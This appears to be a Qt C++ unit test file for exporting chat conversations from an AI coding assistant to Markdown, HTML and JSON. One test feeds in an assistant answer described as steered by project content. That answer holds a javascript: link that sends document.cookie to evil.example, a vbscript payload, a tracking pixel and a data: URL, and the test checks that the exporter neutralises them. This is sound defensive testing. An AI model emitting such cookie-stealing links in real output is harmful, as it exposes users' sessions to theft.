// SPDX-License-Identifier: GPL-3.0-or-later
// Conversations out of REALM and back: Markdown, HTML, and JSON that
// round-trips through import with every version.
#include "chatexport/conversationexport.h"
#include "testworkspace.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QTest>

using namespace Realm;
using namespace Realm::Chat;
using Realm::Test::TestWorkspace;

namespace {
Message make(const QString &conversationId, const QString &parentId, ChatMessage::Role role, const QString &text)
{
    Message m;
    m.conversationId = conversationId;
    m.parentId = parentId;
    m.role = role;
    m.content = text;
    return m;
}

// A conversation with a regenerated answer (two versions) and a follow-up.
QString buildSample(ConversationStore &store)
{
    const Conversation conv = *store.create(QStringLiteral("Atomic writes"));
    Message q = make(conv.id, {}, ChatMessage::Role::User, QStringLiteral("How do I write a file atomically?"));
    q.context.append(QJsonObject{{QStringLiteral("kind"), QStringLiteral("file")}, {QStringLiteral("title"), QStringLiteral("src/save.cpp")},
                                 {QStringLiteral("text"), QStringLiteral("void save();")}});
    const Message question = *store.append(q);
    Message first = make(conv.id, question.id, ChatMessage::Role::Assistant, QStringLiteral("Write a temp file, then rename."));
    first.model = QStringLiteral("mock-model");
    (void)store.append(first);
    Message second = make(conv.id, question.id, ChatMessage::Role::Assistant,
                          QStringLiteral("Use `QSaveFile`:\n\n```cpp\nQSaveFile f(path);\nf.commit();\n```"));
    second.model = QStringLiteral("mock-model");
    second.usage = {120, 30};
    const Message answer = *store.append(second);
    const Message followUp = *store.append(make(conv.id, answer.id, ChatMessage::Role::User, QStringLiteral("And on Windows?")));
    Message cut = make(conv.id, followUp.id, ChatMessage::Role::Assistant, QStringLiteral("It uses ReplaceFile"));
    cut.status = Message::Status::Cancelled;
    (void)store.append(cut);
    return conv.id;
}
} // namespace

class tst_ConversationExport final : public QObject {
    Q_OBJECT
private slots:
    void markdownShowsTheThreadWithSpeakersContextAndStatus();
    void htmlIsAStandalonePageWithColouredCode();
    void jsonRoundTripsEveryVersion();
    void foreignOrDamagedJsonIsRefused();
    void hostileLinksInAnAnswerNeitherRunNorLoad();
};

// An answer steered by project content: the exported page keeps the words,
// runs no link and fetches no image when opened.
void tst_ConversationExport::hostileLinksInAnAnswerNeitherRunNorLoad()
{
    TestWorkspace ws;
    ConversationStore store(ws.db());
    const Conversation conv = *store.create(QStringLiteral("Steered"));
    const Message question = *store.append(make(conv.id, {}, ChatMessage::Role::User, QStringLiteral("Summarise README")));
    (void)store.append(make(conv.id, question.id, ChatMessage::Role::Assistant,
                            QStringLiteral("[Click here](JAVASCRIPT:fetch('//evil.example/'+document.cookie)) "
                                           "<vbscript:msgbox> ![pixel](https://evil.example/track.png?id=1) [ref][r]\n\n[r]: data:text/html,x")));
    const QString html = ConversationExport::toHtml(*store.find(conv.id), *store.thread(conv.id));
    QVERIFY2(!html.contains(QStringLiteral("href=\"javascript"), Qt::CaseInsensitive), qPrintable(html));
    QVERIFY(!html.contains(QStringLiteral("href=\"vbscript"), Qt::CaseInsensitive));
    QVERIFY(!html.contains(QStringLiteral("href=\"data:"), Qt::CaseInsensitive));
    QVERIFY(!html.contains(QStringLiteral("<img"), Qt::CaseInsensitive));
    QVERIFY(html.contains(QStringLiteral("<a href=\"https://evil.example/track.png?id=1\">pixel</a>")));
    QVERIFY(html.contains(QStringLiteral("Click here")));
}

void tst_ConversationExport::markdownShowsTheThreadWithSpeakersContextAndStatus()
{
    TestWorkspace ws;
    ConversationStore store(ws.db());
    const QString id = buildSample(store);
    const QString md = ConversationExport::toMarkdown(*store.find(id), *store.thread(id));
    QVERIFY(md.startsWith(QStringLiteral("# Atomic writes\n")));
    QVERIFY(md.contains(QStringLiteral("## You\n\n> Context: `src/save.cpp`\n\nHow do I write a file atomically?")));
    QVERIFY(md.contains(QStringLiteral("## Assistant (mock-model)\n\nUse `QSaveFile`:")));
    QVERIFY(!md.contains(QStringLiteral("temp file"))); // only the version on show
    QVERIFY(md.contains(QStringLiteral("It uses ReplaceFile\n\n_(stopped before the end)_")));
}

void tst_ConversationExport::htmlIsAStandalonePageWithColouredCode()
{
    TestWorkspace ws;
    ConversationStore store(ws.db());
    const QString id = buildSample(store);
    const QString html = ConversationExport::toHtml(*store.find(id), *store.thread(id));
    QVERIFY(html.startsWith(QStringLiteral("<!DOCTYPE html>")));
    QVERIFY(html.contains(QStringLiteral("<title>Atomic writes</title>")));
    QVERIFY(html.contains(QStringLiteral("<h1 id=\"atomic-writes\">Atomic writes</h1>")));
    // The code block is coloured, and the page carries the colours' CSS.
    static const QRegularExpression block(QStringLiteral("<pre><code class=\"language-cpp\">(.*?)</code></pre>"),
                                          QRegularExpression::DotMatchesEverythingOption);
    const QString code = block.match(html).captured(1);
    QVERIFY2(code.contains(QStringLiteral("<span class=\"hl-")), qPrintable(code));
    QVERIFY(QString(code).remove(QRegularExpression(QStringLiteral("<[^>]+>"))).startsWith(QStringLiteral("QSaveFile f(path);")));
    QVERIFY(html.contains(QStringLiteral(".hl-comment { color: #")));
    QVERIFY(html.contains(QStringLiteral("color-scheme: light dark")));
}

void tst_ConversationExport::jsonRoundTripsEveryVersion()
{
    TestWorkspace ws;
    ConversationStore store(ws.db());
    const QString id = buildSample(store);
    const QByteArray json = ConversationExport::toJson(*store.find(id), *store.messages(id));
    QCOMPARE(QJsonDocument::fromJson(json).object().value(QStringLiteral("messages")).toArray().size(), 5);

    TestWorkspace other;
    ConversationStore target(other.db());
    const Result<QString> imported = ConversationExport::importJson(target, json);
    QVERIFY2(imported, qPrintable(imported ? QString() : imported.error().message));
    const QList<Message> original = *store.thread(id);
    const QList<Message> copy = *target.thread(*imported);
    QCOMPARE(copy.size(), original.size());
    for (qsizetype i = 0; i < copy.size(); ++i) {
        QCOMPARE(copy.at(i).content, original.at(i).content);
        QCOMPARE(copy.at(i).role, original.at(i).role);
        QCOMPARE(copy.at(i).status, original.at(i).status);
        QCOMPARE(copy.at(i).versionCount, original.at(i).versionCount);
        QCOMPARE(copy.at(i).createdAt, original.at(i).createdAt);
        QCOMPARE(copy.at(i).context, original.at(i).context);
        QCOMPARE(copy.at(i).usage.inputTokens, original.at(i).usage.inputTokens);
    }
    QCOMPARE(target.find(*imported)->title, QStringLiteral("Atomic writes"));
    // Exporting the copy gives the same document, apart from the new ids.
    QByteArray again = ConversationExport::toJson(*target.find(*imported), *target.messages(*imported));
    const auto withoutIds = [](const QByteArray &doc) {
        QJsonObject root = QJsonDocument::fromJson(doc).object();
        QJsonArray messages;
        for (const QJsonValue &m : root.value(QStringLiteral("messages")).toArray()) {
            QJsonObject o = m.toObject();
            o.remove(QStringLiteral("id"));
            o.remove(QStringLiteral("parent_id"));
            messages.append(o);
        }
        root.insert(QStringLiteral("messages"), messages);
        QJsonObject c = root.value(QStringLiteral("conversation")).toObject();
        c.remove(QStringLiteral("current_message_id"));
        c.remove(QStringLiteral("created_at"));
        root.insert(QStringLiteral("conversation"), c);
        return root;
    };
    QCOMPARE(withoutIds(again), withoutIds(json));
}

void tst_ConversationExport::foreignOrDamagedJsonIsRefused()
{
    TestWorkspace ws;
    ConversationStore store(ws.db());
    QCOMPARE(ConversationExport::importJson(store, "{\"messages\": []}").error().code, Error::Code::InvalidInput);
    QCOMPARE(ConversationExport::importJson(store, "not json").error().code, Error::Code::InvalidInput);
    const QByteArray orphan = R"({"format":"realm-conversation","version":1,"conversation":{"title":"x"},
        "messages":[{"id":"b","parent_id":"missing","role":"user","content":"hi"}]})";
    const Result<QString> damaged = ConversationExport::importJson(store, orphan);
    QVERIFY(!damaged);
    QVERIFY(damaged.error().message.contains(QStringLiteral("damaged")));
    QVERIFY(ConversationExport::importJson(store, R"({"format":"realm-conversation","version":99})")
                .error().message.contains(QStringLiteral("newer")));
}

QTEST_GUILESS_MAIN(tst_ConversationExport)
#include "tst_conversationexport.moc"
